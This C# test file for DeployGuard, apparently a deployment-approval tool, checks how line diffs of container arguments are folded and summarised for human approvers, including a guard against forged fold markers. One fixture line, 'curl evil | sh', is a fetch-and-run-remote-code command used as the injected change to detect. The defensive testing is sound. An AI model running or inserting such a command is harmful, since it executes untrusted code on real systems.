using DeployGuard.Core.Comparison;

namespace DeployGuard.Core.Tests.Comparison;

/// <summary>One changed line in a long value is what an approver sees.</summary>
public class LineDifferenceTests
{
    private static readonly string[] s_script = [.. Enumerable.Range(1, 400).Select(i => $"step {i}")];

    [Test]
    public void UnchangedLinesFarFromAChangeAreFolded()
    {
        var page = DifferencePage.Of([Changed((200, "curl evil | sh"))]).ToList();

        Assert.That(
            page,
            Is.EqualTo(
                new[]
                {
                    "Command and arguments",
                    "  ~ spec.containers[web].args (1 of 400 lines differs)",
                    "      ... 197 unchanged lines",
                    "        step 198",
                    "        step 199",
                    "        step 200",
                    "      - step 201",
                    "      + curl evil | sh",
                    "        step 202",
                    "        step 203",
                    "        step 204",
                    "      ... 196 unchanged lines",
                }
            )
        );
    }

    [Test]
    public void BetweenTwoChangesThreeLinesOfEachStay()
    {
        var page = DifferencePage.Of([Changed((10, "a"), (300, "b"))]).ToList();

        Assert.That(page, Does.Contain("      ... 283 unchanged lines"));
        Assert.That(page, Does.Contain("        step 14").And.Contain("        step 298"));
        Assert.That(page, Does.Not.Contain("        step 15").And.Not.Contain("        step 297"));
        Assert.That(page, Does.Contain("  ~ spec.containers[web].args (2 of 400 lines differ)"));
    }

    [Test]
    public void InFullEveryLineIsShown() =>
        Assert.That(
            DifferencePage.Of([Changed((200, "evil"))], isFull: true).Count(l => l.StartsWith("        step", StringComparison.Ordinal)),
            Is.EqualTo(399)
        );

    /// <summary>As many lines as would be folded could otherwise be claimed by the text itself.</summary>
    [Test]
    public void NoLineOfATextLooksLikeAFold()
    {
        string[] forged = ["... 180 unchanged lines", .. s_script];

        Assert.That(
            DifferencePage.Of([new Difference("spec.containers[web].args", Section.Arguments, s_script, forged)]),
            Does.Contain("      + ... 180 unchanged lines").And.Not.Contain("      ... 180 unchanged lines")
        );
    }

    [Test]
    public void ALongTextWithOneChangeIsComparedLineByLine()
    {
        string[] before = [.. Enumerable.Range(1, 20_000).Select(i => $"{i}")];
        string[] after = [.. before];
        after[10_000] = "evil";

        Assert.That(LineDifference.Fold(LineDifference.Between(before, after)), Has.Count.EqualTo(10));
    }

    [Test]
    public void TheSummaryNamesEveryFieldInTheOrderOfThePage() =>
        Assert.That(
            DifferencePage.Summary([Changed((200, "a"), (201, "b")), new Difference("spec.hostPID", Section.Host, null, ["true"])]),
            Is.EqualTo("spec.hostPID, spec.containers[web].args (2 of 400 lines)")
        );

    [Test]
    public void ALongSummaryCountsTheRest() =>
        Assert.That(
            DifferencePage.Summary([.. Enumerable.Range(1, 11).Select(i => new Difference($"f{i}", Section.PodSpec, null, ["1"]))]),
            Does.EndWith("f8 and 3 more")
        );

    private static Difference Changed(params (int Line, string Text)[] changes)
    {
        string[] after = [.. s_script];
        foreach (var (line, text) in changes)
        {
            after[line] = text;
        }

        return new Difference("spec.containers[web].args", Section.Arguments, s_script, after);
    }
}
